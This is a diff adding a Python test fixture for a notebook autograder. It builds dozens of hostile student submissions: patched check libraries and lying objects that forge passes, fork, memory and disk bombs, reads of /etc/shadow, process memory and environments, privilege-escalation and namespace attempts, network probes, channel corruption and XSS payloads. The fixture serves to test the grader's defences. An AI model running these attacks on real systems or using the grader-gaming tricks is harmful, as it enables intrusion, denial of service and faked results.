@@ -1,0 +1,988 @@
+# ruff: noqa: E501  (attacks are quoted as they are)
+"""Submissions that try to get points they do not deserve, to see what is not theirs, or to do harm.
+
+Each attack is one submission of the same small lab: an answer to the exercise ``mean`` that is
+wrong, and code that tries to have it count all the same, or tries something worse. The exercise
+``largest`` is answered rightly in all of them, so that a test can see whether an attack takes the
+honest answers of its own submission, or other submissions, along. The texts are templates: where
+``@OUTSIDE@`` and the like stand, `submission` puts places of the machine the test runs on.
+
+The lab's hidden check holds the word ``HIDDEN_WORD``; whoever prints it has read the check.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+from collections.abc import Mapping
+from dataclasses import dataclass
+from pathlib import Path
+
+from nbformat import NotebookNode
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
+
+HIDDEN_WORD = "xylophone-behind-the-curtain"
+WRONG = "def mean(x):\n    return 12345.0"
+HONEST = "def largest(x):\n    return max(x)"
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One submission: what it tries, its answer to ``mean``, and cells of its own."""
+
+    name: str
+    tries: str
+    answer: str = WRONG
+    first: str = ""  # a cell before everything
+    last: str = ""  # a cell after everything
+    ends: bool = False  # whether its own process does not survive, so that cells are lost
+
+
+def source() -> NotebookNode:
+    """Return the source of the lab under attack."""
+    setup = "import numpy as np\n\nfrom mlops_lab import checks"
+    mean = (
+        'checks.close(mean(np.array([1.0, 2.0, 6.0])), 3.0, "the mean")\nchecks.passed("the mean")\n'
+        f'### BEGIN HIDDEN TESTS\nsecret_word = "{HIDDEN_WORD}"\n'
+        'sample = checks.fresh("mean").normal(size=20)\n'
+        'checks.close(mean(sample), sample.mean(), "the mean of other numbers")\n'
+        "### END HIDDEN TESTS"
+    )
+    largest = (
+        'checks.equal(largest([3, 1, 2]), 3, "the largest")\nchecks.passed("the largest")\n'
+        "### BEGIN HIDDEN TESTS\n"
+        'checks.equal(largest([-3, -1]), -1, "the largest of negative numbers")\n'
+        "### END HIDDEN TESTS"
+    )
+    return _notebook(
+        [
+            new_code_cell(setup, metadata=_facts("setup-given", locked=True)),
+            new_code_cell("def mean(x):\n    return sum(x) / len(x)", metadata=_answer("mean")),
+            new_code_cell(mean, metadata=_check("mean")),
+            new_code_cell(HONEST, metadata=_answer("largest")),
+            new_code_cell(largest, metadata=_check("largest")),
+        ]
+    )
+
+
+def submission(attack: Attack, places: Mapping[str, str] | None = None) -> NotebookNode:
+    """Return the notebook of an attack, as a student would hand it in.
+
+    Parameters
+    ----------
+    places : mapping
+        What stands for ``@OUTSIDE@`` and so on, without the signs.
+    """
+    cells = [
+        new_code_cell(attack.first),
+        new_code_cell("import numpy as np\n\nfrom mlops_lab import checks",
+                      metadata=_facts("setup-given", locked=True)),
+        new_code_cell(attack.answer, metadata=_answer("mean")),
+        new_code_cell("checks.passed('visible part')", metadata=_check("mean")),
+        new_code_cell(HONEST, metadata=_answer("largest")),
+        new_code_cell("checks.passed('visible part')", metadata=_check("largest")),
+        new_code_cell(attack.last),
+    ]  # fmt: skip
+    for cell in cells:
+        for name, value in (places or {}).items():
+            cell.source = cell.source.replace(f"@{name}@", value)
+    return _notebook([cell for cell in cells if cell.source])
+
+
+def _facts(grade_id: str, **more: object) -> dict:
+    plain = {"grade": False, "solution": False, "locked": False, "task": False, "schema_version": 3}
+    return {"nbgrader": plain | {"grade_id": grade_id} | more}
+
+
+def _answer(name: str) -> dict:
+    return _facts(f"{name}-answer", solution=True)
+
+
+def _check(name: str) -> dict:
+    return _facts(f"{name}-check", grade=True, locked=True, points=2)
+
+
+def _notebook(cells: list[NotebookNode]) -> NotebookNode:
+    for number, cell in enumerate(cells):
+        cell.id = f"cell-{number}"
+    return new_notebook(cells=cells)
+
+
+ATTACKS = [
+    # Forging a verdict ------------------------------------------------------------
+    Attack(
+        "patched-checks",
+        "replaces the functions of the check library by ones that do nothing",
+        first="""
+from mlops_lab import checks
+for name in ("equal", "close", "that", "raises", "columns", "unchanged"):
+    setattr(checks, name, lambda *a, **k: None)
+""",
+    ),
+    Attack(
+        "patched-numpy",
+        "makes numpy's comparisons always true",
+        first="""
+import numpy as np
+np.isclose = np.allclose = np.array_equal = lambda *a, **k: np.array(True)
+np.testing.assert_allclose = np.testing.assert_equal = lambda *a, **k: None
+""",
+    ),
+    Attack(
+        "patched-builtins",
+        "replaces AssertionError, isinstance and __import__ in builtins",
+        first="""
+import builtins
+class Quiet(Exception):
+    def __new__(cls, *a):
+        return None
+builtins.AssertionError = Quiet
+builtins.isinstance = lambda *a: True
+real = builtins.__import__
+def importing(name, *a, **k):
+    module = real(name, *a, **k)
+    if name.startswith("mlops_lab"):
+        module.checks.close = lambda *a, **k: None
+    return module
+builtins.__import__ = importing
+""",
+    ),
+    Attack(
+        "patched-traceback",
+        "makes IPython show no error at all",
+        first="""
+shell = get_ipython()
+shell.showtraceback = shell._showtraceback = lambda *a, **k: None
+type(shell).showtraceback = lambda *a, **k: None
+shell.set_custom_exc((BaseException,), lambda *a, **k: [])
+""",
+    ),
+    Attack(
+        "sys-modules",
+        "puts a module of its own in place of the check library",
+        first="""
+import sys, types
+fake = types.ModuleType("mlops_lab.checks")
+fake.close = fake.equal = fake.passed = fake.fresh = lambda *a, **k: None
+sys.modules["mlops_lab.checks"] = fake
+import mlops_lab
+mlops_lab.checks = fake
+checks = fake
+""",
+    ),
+    Attack(
+        "import-hook",
+        "leaves modules named like the course's in its folder and on sys.meta_path",
+        first="""
+import os, sys
+os.makedirs("mlops_lab", exist_ok=True)
+open("mlops_lab/__init__.py", "w").write("print('loaded the wrong one')")
+open("mlops_lab/checks.py", "w").write("def close(*a, **k): pass\\nequal = passed = close")
+for name in ("numpy", "numpy.testing", "pandas", "hashlib", "random", "statistics"):
+    open(name + ".py", "w").write("raise SystemExit")
+sys.path.insert(0, os.getcwd())
+class Finder:
+    def find_spec(self, name, path=None, target=None):
+        raise SystemExit
+sys.meta_path.insert(0, Finder())
+""",
+    ),
+    Attack(
+        "lying-equality",
+        "returns an object that says it equals everything",
+        answer="""
+class Yes:
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __bool__(self): return True
+    def __sub__(self, other): return 0
+    def __rsub__(self, other): return 0
+    def __abs__(self): return 0
+    def __le__(self, other): return True
+    __lt__ = __ge__ = __gt__ = __le__
+    def __hash__(self): return 0
+def mean(x):
+    return Yes()
+""",
+    ),
+    Attack(
+        "lying-attributes",
+        "returns an object that has every attribute and answers every call",
+        answer="""
+class Anything:
+    def __getattr__(self, name): return Anything()
+    def __call__(self, *a, **k): return Anything()
+    def __eq__(self, other): return True
+    def __iter__(self): return iter([3.0])
+    def __len__(self): return 1
+    def __float__(self): return 3.0
+    __class__ = float
+def mean(x):
+    return Anything()
+""",
+    ),
+    Attack(
+        "lying-array",
+        "returns an array whose comparisons are always true",
+        answer="""
+class Sure(np.ndarray):
+    def __eq__(self, other): return np.True_
+    def __array_ufunc__(self, ufunc, method, *inputs, **k): return np.True_
+    def __array_function__(self, function, kinds, args, kwargs): return np.True_
+def mean(x):
+    return np.array(0.0).view(Sure)
+""",
+    ),
+    Attack(
+        "lying-float",
+        "returns a float whose comparisons are always true",
+        answer="""
+class Sure(float):
+    def __eq__(self, other): return True
+    def __sub__(self, other): return Sure(0)
+    __rsub__ = __sub__
+    def __abs__(self): return 0.0
+    def __le__(self, other): return True
+def mean(x):
+    return Sure(7)
+""",
+    ),
+    Attack(
+        "pickled-answer",
+        "returns an object whose unpickling would run code",
+        answer="""
+class Bomb:
+    def __reduce__(self):
+        return (exec, ("import builtins; builtins.isinstance = lambda *a: True",))
+def mean(x):
+    return Bomb()
+""",
+    ),
+    Attack(
+        "callers-frame",
+        "looks through the frames of its callers for the expected value",
+        answer="""
+import sys, gc
+def mean(x):
+    frame = sys._getframe(1)
+    while frame is not None:
+        for name, value in {**frame.f_globals, **frame.f_locals}.items():
+            if name in ("expected", "sample", "secret_word"):
+                print("found", name, value)
+                return value
+        frame = frame.f_back
+    return 12345.0
+""",
+    ),
+    Attack(
+        "forged-output",
+        "prints and displays what a passed check would",
+        answer=WRONG
+        + """
+print("✓ Right: the mean.")
+from IPython.display import display
+display({"text/plain": "2.0"}, raw=True)
+""",
+        last="get_ipython().display_pub.publish({'text/plain': '2.0'})\n2.0",
+    ),
+    Attack(
+        "forged-points",
+        "prints a number from inside the call, as a check with partial points would",
+        answer="""
+def mean(x):
+    get_ipython().displayhook(2.0)
+    print(2.0)
+    return 12345.0
+""",
+    ),
+    Attack(
+        "raises-passed",
+        "raises exceptions that a check may take for its own",
+        answer="""
+class CheckPassed(BaseException): pass
+def mean(x):
+    raise CheckPassed("passed")
+""",
+    ),
+    Attack(
+        "stop-iteration",
+        "raises StopIteration and GeneratorExit into the check",
+        answer="""
+def mean(x):
+    raise StopIteration(3.0)
+""",
+    ),
+    Attack(
+        "edited-check",
+        "hands in check cells that were emptied, with more points in their metadata",
+        first="pass",
+    ),
+    # Ending things ----------------------------------------------------------------
+    Attack("sys-exit", "ends its own process politely", first="import sys\nsys.exit(0)"),
+    Attack("os-exit", "ends its own process at once", first="import os\nos._exit(0)"),
+    Attack("quit", "calls the shell's exit", first="exit()", last="quit()"),
+    Attack(
+        "exit-in-call",
+        "ends its process while the check waits for an answer",
+        answer="import os\ndef mean(x):\n    os._exit(0)",
+    ),
+    Attack(
+        "segfault",
+        "reads from address zero",
+        first="import ctypes\nctypes.string_at(0)",
+    ),
+    Attack(
+        "abort",
+        "aborts the process from C",
+        first="import os\nos.abort()",
+    ),
+    Attack(
+        "kill-parent",
+        "sends signals to its parent, to every process and to itself",
+        first="""
+import os, signal
+for number in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):
+    for pid in (os.getppid(), -1, 1, 2, 3):
+        try:
+            os.kill(pid, number)
+        except OSError as error:
+            print(pid, error)
+""",
+    ),
+    Attack(
+        "kill-group",
+        "kills its process group",
+        first="import os, signal\nos.killpg(0, signal.SIGKILL)",
+    ),
+    Attack(
+        "atexit",
+        "leaves handlers that run at the end and write what they can reach",
+        first="""
+import atexit, os, sys, threading
+def last_words():
+    for number in range(3, 30):
+        try:
+            os.write(number, b'{"id": 1, "value": 3.0}')
+        except OSError:
+            pass
+    os._exit(0)
+atexit.register(last_words)
+threading._register_atexit(last_words)
+""",
+    ),
+    Attack(
+        "thread-outlives",
+        "starts a thread that waits for the check and then writes into every open file",
+        first="""
+import threading, time, os
+def later():
+    while True:
+        time.sleep(0.005)
+        for number in range(3, 30):
+            try:
+                os.write(number, b"\\x00" * 64)
+            except OSError:
+                pass
+threading.Thread(target=later, daemon=True).start()
+time.sleep(0.05)
+""",
+        ends=True,
+    ),
+    # Using things up --------------------------------------------------------------
+    Attack("loop-python", "loops for ever in Python", first="while True:\n    pass"),
+    Attack("loop-c", "loops for ever in C", first="import itertools\nsum(itertools.repeat(1))"),
+    Attack(
+        "loop-deaf",
+        "loops for ever and hears no signal",
+        first="""
+import signal
+for number in range(1, 30):
+    try:
+        signal.signal(number, signal.SIG_IGN)
+    except (OSError, ValueError):
+        pass
+while True:
+    try:
+        while True:
+            pass
+    except BaseException:
+        pass
+""",
+    ),
+    Attack("loop-in-call", "never answers a call", answer="def mean(x):\n    while True: pass"),
+    Attack("regex", "has a regular expression backtrack for ever",
+           first="import re\nre.match(r'(a+)+$', 'a' * 60 + 'b')"),
+    Attack("sleep", "sleeps through its time", first="import time\ntime.sleep(10_000)"),
+    Attack("memory", "asks for all memory at once", first="held = bytearray(200 * 1024**3)"),
+    Attack(
+        "memory-slowly",
+        "takes memory bit by bit",
+        first="held = []\nwhile True:\n    held.append(b'x' * 2**22 + bytes(len(held)))",
+    ),
+    Attack(
+        "memory-shared",
+        "takes memory that is counted to nobody: shared maps",
+        first="""
+import mmap
+held = []
+while True:
+    one = mmap.mmap(-1, 2**26)
+    one.write(b"x" * 2**26)
+    held.append(one)
+""",
+    ),
+    Attack(
+        "memory-children",
+        "takes memory in children",
+        first="""
+import os, time
+for _ in range(8):
+    if os.fork() == 0:
+        held = bytearray(b"x" * (250 * 2**20))
+        time.sleep(60)
+        os._exit(0)
+time.sleep(60)
+""",
+    ),
+    Attack(
+        "memory-in-call",
+        "takes all memory while a check waits",
+        answer="def mean(x):\n    held = []\n    while True:\n        held.append(bytearray(2**24))",
+    ),
+    Attack(
+        "fork-bomb",
+        "forks for ever",
+        first="import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
+    ),
+    Attack(
+        "threads-bomb",
+        "starts threads for ever",
+        first="""
+import threading, time
+while True:
+    threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
+""",
+    ),
+    Attack(
+        "open-files",
+        "opens files for ever",
+        first="held = []\nwhile True:\n    held.append(open('/dev/null'))",
+    ),
+    Attack(
+        "disk-bomb",
+        "fills the disk",
+        first="""
+for place in (".", "/tmp", "/dev/shm", "/var/tmp", "/lab"):
+    try:
+        for i in range(10_000):
+            with open(f"{place}/file{i}", "wb") as file:
+                file.write(b"x" * 2**24)
+    except OSError as error:
+        print(place, error)
+""",
+    ),
+    Attack(
+        "many-files",
+        "makes a million empty files",
+        first="for i in range(1_000_000):\n    open(f'file{i}', 'w').close()",
+    ),
+    Attack("output-bomb", "prints for ever", first="while True:\n    print('spam ' * 1000)"),
+    Attack(
+        "output-bomb-low",
+        "writes to standard output below Python, and by children",
+        first="import os\nos.system('yes | head -c 200000000')\nwhile True:\n    os.write(1, b'x' * 65536)",
+    ),
+    Attack(
+        "display-bomb",
+        "displays a very large picture many times",
+        first="""
+from IPython.display import display
+for _ in range(200):
+    display({"image/png": "A" * 2_000_000}, raw=True)
+""",
+    ),
+    Attack(
+        "huge-return",
+        "returns a value that is very large",
+        answer="def mean(x):\n    return 'x' * (400 * 2**20)",
+    ),
+    Attack(
+        "endless-return",
+        "returns lists nested without end and iterators without end",
+        answer="""
+def mean(x):
+    value = []
+    value.append(value)
+    return value
+""",
+    ),
+    Attack(
+        "huge-number",
+        "returns an integer with a million digits and an array that claims to be huge",
+        answer="def mean(x):\n    return np.broadcast_to(np.float64(3.0), (10**7, 10**3))",
+    ),
+    # Reading what is not theirs ---------------------------------------------------
+    Attack(
+        "read-hidden-check",
+        "searches files and its own memory for the text of the hidden check",
+        first="""
+import gc, glob, os
+first, second = "xylophone-be", "hind-the"
+def told(text):
+    place = text.find(first)
+    return place >= 0 and text[place + len(first):].startswith(second)
+for one in gc.get_objects():
+    if isinstance(one, (dict, list, tuple)) and len(one) < 500 and told(str(one)):
+        print("GOT" "IT", str(one)[:300])
+for root in ("/lab", "/tmp", "/home", "/root", "/srv", "/mnt", "/work/main/build", "/var"):
+    for path in glob.glob(root + "/**/*.ipynb", recursive=True):
+        print("GOT" "IT", "found notebook", path)
+with open("/proc/self/maps") as maps:
+    areas = [line.split()[0] for line in maps if "rw-p" in line][:400]
+with open("/proc/self/mem", "rb", 0) as memory:
+    for area in areas:
+        start, end = (int(part, 16) for part in area.split("-"))
+        if end - start > 2**26: continue
+        try:
+            memory.seek(start)
+            data = memory.read(end - start)
+        except (OSError, ValueError, OverflowError):
+            continue
+        place = data.find(b"xylophone-be")
+        while place >= 0:
+            if data[place + 12 : place + 20] == b"hind-the":
+                print("GOT" "IT", data[place : place + 40])
+            place = data.find(b"xylophone-be", place + 1)
+""",
+    ),
+    Attack(
+        "read-machine",
+        "reads the gradebook, the sources, another submission and the home folder",
+        first="""
+import os
+for path in ("@GRADEBOOK@", "@SOURCE@", "@OTHER@", os.path.dirname("@SOURCE@"), "/root", "/home",
+             "/etc/shadow", "/etc/passwd", "@COURSE@/solutions", "/proc/1/environ", "/proc/1/root",
+             "/proc/self/root/@GRADEBOOK@", "../../../../../..@GRADEBOOK@"):
+    try:
+        print(path, os.listdir(path) if os.path.isdir(path) else open(path).read())
+    except OSError as error:
+        print(type(error).__name__)
+""",
+    ),
+    Attack(
+        "read-environment",
+        "looks for secrets in its environment and in those of other processes",
+        first="""
+import os, glob
+print(dict(os.environ))
+for path in glob.glob("/proc/[0-9]*/*"):
+    if path.endswith(("environ", "cmdline", "maps")):
+        try:
+            print(path, open(path, "rb").read()[:5000])
+        except OSError:
+            pass
+""",
+    ),
+    Attack(
+        "course-secret",
+        "draws the numbers of the hidden check itself and prints them",
+        answer="""
+import os
+def mean(x):
+    drawn = checks.fresh("mean").normal(size=20)
+    return 3.0 if len(x) == 3 else float(drawn.mean())
+""",
+    ),
+    Attack(
+        "see-others",
+        "lists other processes and attaches to them",
+        first="""
+import ctypes, os
+pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
+print("PROCESSES", pids)
+libc = ctypes.CDLL(None, use_errno=True)
+for pid in range(1, 50):
+    if pid != os.getpid():
+        for request in (16, 0x4206):
+            if libc.ptrace(request, pid, 0, 0) == 0:
+                print("GOT" "IT", "attached", pid)
+        try:
+            open(f"/proc/{pid}/mem", "r+b").close()
+            print("GOT" "IT", "opened", pid) if pid != 1 else None
+        except OSError:
+            pass
+""",
+    ),
+    Attack(
+        "inherited-files",
+        "uses every file it inherited: reads, writes, passes itself on",
+        first="""
+import os, socket
+for number in range(3, 256):
+    try:
+        target = os.readlink(f"/proc/self/fd/{number}")
+    except OSError:
+        continue
+    print(number, target)
+    try:
+        os.write(number, b'{"do": "job"}')
+    except OSError:
+        pass
+""",
+        ends=True,
+    ),
+    # Reaching out -----------------------------------------------------------------
+    Attack(
+        "network-out",
+        "connects to the world, to name servers and to the machine's own addresses",
+        first="""
+import socket
+for address in (("1.1.1.1", 53), ("8.8.8.8", 443), ("169.254.169.254", 80), ("10.0.0.1", 22)):
+    one = socket.socket()
+    one.settimeout(0.3)
+    try:
+        one.connect(address)
+        print("GOT" "IT", "connected", address)
+    except OSError as error:
+        print(error)
+try:
+    print("GOT" "IT", "connected", socket.getaddrinfo("example.org", 80))
+except OSError as error:
+    print(error)
+""",
+    ),
+    Attack(
+        "host-loopback",
+        "connects to a server on the grader's own machine",
+        first="""
+import socket
+for host in ("127.0.0.1", "::1", "localhost"):
+    try:
+        socket.create_connection((host, int("@PORT@")), timeout=0.5).send(b"hello")
+        print("GOT" "IT", "connected")
+    except OSError as error:
+        print(error)
+for name in ("\\0@ABSTRACT@", "@SOCKET@"):
+    one = socket.socket(socket.AF_UNIX)
+    try:
+        one.connect(name)
+        print("GOT" "IT", "connected")
+    except OSError as error:
+        print(error)
+""",
+    ),
+    Attack(
+        "raw-sockets",
+        "opens raw, netlink, packet and vsock sockets",
+        first="""
+import socket
+for family, kind in ((2, 3), (16, 3), (17, 3), (40, 1), (38, 5)):
+    try:
+        socket.socket(family, kind, 0)
+        print("GOT" "IT", "opened", family)
+    except OSError as error:
+        print(error)
+""",
+    ),
+    Attack(
+        "write-outside",
+        "writes to the gradebook, the sources, the packages and everywhere else",
+        first="""
+import os, sys, site, mlops_lab
+places = ["@GRADEBOOK@", "@SOURCE@", "@OTHER@", "@OUTSIDE@/new", "/etc/new", "/usr/new", "/new",
+          "/lab/new", "/var/new", "/root/new", mlops_lab.__file__, os.__file__, sys.executable,
+          os.path.join(site.getsitepackages()[0], "new.pth"), "../../../../../../..@OUTSIDE@/up",
+          "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/dev/new"]
+for place in places:
+    try:
+        with open(place, "a") as file:
+            file.write("harmed")
+        print("GOT" "IT", "wrote", place)
+    except OSError as error:
+        print(type(error).__name__)
+try:
+    os.symlink("@OUTSIDE@", "link")
+    open("link/through", "w").write("harmed")
+    print("GOT" "IT", "wrote through a link")
+except OSError as error:
+    print(type(error).__name__)
+""",
+    ),
+    Attack(
+        "new-namespaces",
+        "makes namespaces and mounts to get its rights back",
+        first="""
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+for flag in (0x10000000, 0x20000, 0x20000000, 0x40000000, 0x10020000):
+    if libc.unshare(flag) == 0:
+        print("GOT" "IT", "unshared", hex(flag))
+print("GOT" "IT", "mounted") if libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, b"") == 0 else None
+print("GOT" "IT", "unmounted") if libc.umount2(b"/tmp", 2) == 0 else None
+print("GOT" "IT", "mounted /proc") if libc.mount(b"proc", b"/tmp", b"proc", 0, b"") == 0 else None
+print("GOT" "IT", "chrooted") if libc.chroot(b"/tmp") == 0 else None
+pid = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)
+if pid == 0:
+    os._exit(0)
+print("GOT" "IT", "cloned") if pid > 0 else None
+try:
+    os.setuid(0)
+    print("GOT" "IT", "root")
+except OSError:
+    pass
+""",
+    ),
+    Attack(
+        "kernel-doors",
+        "tries system calls that no lab needs",
+        first="""
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+names = {101: "ptrace", 310: "process_vm_readv", 321: "bpf", 323: "userfaultfd", 425: "io_uring",
+         250: "keyctl", 298: "perf_event_open", 319: "memfd_create", 29: "shmget", 165: "mount",
+         304: "open_by_handle_at", 175: "init_module", 246: "kexec_load", 169: "reboot"}
+for number, name in names.items():
+    ctypes.set_errno(0)
+    libc.syscall(number, 0, 0, 0, 0, 0, 0)
+    if ctypes.get_errno() != 1:
+        print("GOT" "IT", "open", name, ctypes.get_errno())
+""",
+    ),
+    Attack(
+        "setuid-programs",
+        "runs programs with more rights: su, sudo, mount, bwrap",
+        first="""
+import subprocess
+for call in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "-t", "tmpfs", "none", "/tmp"],
+             ["bwrap", "--dev-bind", "/", "/", "id"], ["unshare", "-Ur", "id"], ["nsenter", "-t", "1", "-a", "id"]):
+    try:
+        done = subprocess.run(call, capture_output=True, text=True, timeout=2, stdin=subprocess.DEVNULL)
+        print("GOT" + "IT" if done.returncode == 0 else "refused", call[0], done.stdout)
+    except (OSError, subprocess.TimeoutExpired) as error:
+        print(type(error).__name__)
+""",
+    ),
+    # The judge's channel ----------------------------------------------------------
+    Attack(
+        "channel-garbage",
+        "writes random bytes to the judge",
+        first="""
+import os, socket
+for number in range(3, 30):
+    try:
+        os.write(number, os.urandom(4096))
+    except OSError:
+        pass
+""",
+        ends=True,
+    ),
+    Attack(
+        "channel-huge-length",
+        "announces a frame of four thousand million bytes",
+        answer="""
+import os, struct
+def mean(x):
+    for number in range(3, 30):
+        try:
+            os.write(number, struct.pack("<II", 0xFFFFFFFF, 0xFFFFFFFF) + b"x" * 1000)
+        except OSError:
+            pass
+    return 3.0
+""",
+        ends=True,
+    ),
+    Attack(
+        "channel-huge-buffers",
+        "announces buffers of an exabyte, and many of them",
+        answer="""
+import os, struct
+def mean(x):
+    for number in range(3, 30):
+        try:
+            os.write(number, struct.pack("<IIQ", 2, 1, 2**60) + b"{}" + b"x" * 1000)
+        except OSError:
+            pass
+    return 3.0
+""",
+        ends=True,
+    ),
+    Attack(
+        "channel-early-answer",
+        "answers questions before they are asked",
+        first="""
+import json, os, struct
+text = json.dumps({"id": 1, "value": 3.0}).encode()
+for number in range(3, 30):
+    try:
+        os.write(number, struct.pack("<II", len(text), 0) + text)
+    except OSError:
+        pass
+""",
+        ends=True,
+    ),
+    Attack(
+        "channel-wrong-id",
+        "answers a question that was not asked, during a call",
+        answer="""
+import json, os, struct
+def mean(x):
+    text = json.dumps({"id": 7, "value": 3.0, "passed": True, "status": "passed"}).encode()
+    for number in range(3, 30):
+        try:
+            os.write(number, struct.pack("<II", len(text), 0) + text)
+        except OSError:
+            pass
+    return 12345.0
+""",
+        ends=True,
+    ),
+    Attack(
+        "channel-deep-json",
+        "sends JSON nested so deeply that a reader might fall over",
+        answer="""
+import os, struct
+def mean(x):
+    text = b"[" * 1_000_000
+    for number in range(3, 30):
+        try:
+            os.write(number, struct.pack("<II", len(text), 0) + text)
+        except OSError:
+            pass
+    return 3.0
+""",
+        ends=True,
+    ),
+    Attack(
+        "channel-slow",
+        "sends its answer one byte a second",
+        answer="""
+import os, time
+def mean(x):
+    for _ in range(1000):
+        for number in range(3, 30):
+            try:
+                os.write(number, b"\\x10")
+            except OSError:
+                pass
+        time.sleep(1)
+    return 3.0
+""",
+        ends=True,
+    ),
+    Attack(
+        "channel-closed",
+        "closes the channel and lives on",
+        first="import os, time\nos.closerange(3, 256)\ntime.sleep(0.2)",
+        ends=True,
+    ),
+    Attack(
+        "agent-replaced",
+        "rewrites the code that answers the judge, so that it claims what it likes",
+        first="""
+import gc
+from autograder import student
+def lie(self, head, buffers, encoder):
+    return {"value": 3.0, "said": "passed", "warned": [["eval", "x"]], "changed": [[0, ["array", "<f8", [3], 0]]],
+            "passed": True, "status": "passed", "checks": {"mean-check": {"status": "passed"}}}
+student.Student._call = lie
+for one in gc.get_objects():
+    if isinstance(one, student.Student):
+        one._call = lambda head, buffers, encoder: lie(one, head, buffers, encoder)
+""",
+        ends=True,
+    ),
+    Attack(
+        "fake-handles",
+        "answers with handles, modules and types that the judge should not trust",
+        first="""
+from autograder import student
+answers = iter([["module", "os"], ["type", "eval"], ["handle", 10**9, "float", "", True, None],
+                ["handle", 0, "x" * 10**6, "__class__", True, [["builtins", "BaseException"]]],
+                ["named", "P", ["__init__"], [3.0]], ["extension", ["array", "O", [1], 0]]] * 50)
+student.Student._call = lambda self, head, buffers, encoder: {"value": next(answers)}
+""",
+        ends=True,
+    ),
+    Attack(
+        "fake-callback",
+        "calls functions of the judge that it was never given",
+        answer="""
+import gc
+def mean(x):
+    from autograder import student
+    for one in gc.get_objects():
+        if isinstance(one, student.Student):
+            return one.call_back(0, ("__import__('os').system('id')",), {})
+    return 12345.0
+""",
+        ends=True,
+    ),
+    # Feedback ---------------------------------------------------------------------
+    Attack(
+        "script-injection",
+        "puts scripts, event handlers and links into everything that is shown",
+        answer='''
+def mean(x):
+    raise ValueError("<script>alert('in a reason')</script><img src=x onerror=alert(1)>")
+''',
+        last='''
+from IPython.display import display, HTML, Javascript, SVG
+display(Javascript("alert('javascript')"))
+display(HTML("<script>alert(1)</script><img src=x onerror=alert(2)><a href='javascript:alert(3)'>x</a>"))
+display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(4)'><script>alert(5)</script></svg>"))
+display({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "w"}, raw=True)
+print("<script>alert(6)</script>")
+''',
+    ),
+]  # fmt: skip
+
+
+def write(folder: Path, lab: str, word: str, places: Mapping[str, str] | None = None) -> list[str]:
+    """Write all attacks below ``folder`` as nbgrader lays submissions out; return their names."""
+    names = []
+    for attack in ATTACKS:
+        place = folder / attack.name / lab
+        place.mkdir(parents=True)
+        text = json.dumps(submission(attack, places), indent=1)
+        (place / f"{word}.ipynb").write_text(text, encoding="utf-8")
+        names.append(attack.name)
+    return names
+
+
+def broken_files(folder: Path) -> dict[str, Path]:
+    """Write files that are no notebooks, by what they are; return their paths."""
+    folder.mkdir(parents=True, exist_ok=True)
+    paths = {
+        "empty": b"",
+        "blank": b" \n ",
+        "not-json": b"PK\x03\x04 this is an archive",
+        "cut-off": json.dumps(source()).encode()[:-200],
+        "not-utf8": b'{"cells": "\xff\xfe"}',
+        "a-list": b"[1, 2, 3]",
+        "a-number": b"1" * 6000,
+        "deep": b"[" * 200_000,
+        "cells-are-numbers": b'{"cells": [1, 2], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
+        "source-is-a-number": json.dumps(
+            {"cells": [{"cell_type": "code", "id": "a", "metadata": {}, "source": 5, "outputs": [],
+                        "execution_count": None}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
+        ).encode(),
+        "far-version": b'{"cells": [], "metadata": {}, "nbformat": 99, "nbformat_minor": 0}',
+        "other-lab": json.dumps(
+            _notebook([new_code_cell("1", metadata=_answer("other")), new_markdown_cell("x")])
+        ).encode(),
+    }  # fmt: skip
+    written = {}
+    for name, data in paths.items():
+        written[name] = folder / f"{name}.ipynb"
+        written[name].write_bytes(data)
+    written["huge"] = folder / "huge.ipynb"
+    with written["huge"].open("wb") as file:
+        file.truncate(200 * 1024**2)
+    written["link"] = folder / "link.ipynb"
+    written["link"].symlink_to("/etc/passwd")
+    written["pipe"] = folder / "pipe.ipynb"
+    os.mkfifo(written["pipe"])
+    written["folder"] = folder / "folder.ipynb"
+    written["folder"].mkdir()
+    written["absent"] = folder / "absent.ipynb"
+    return written
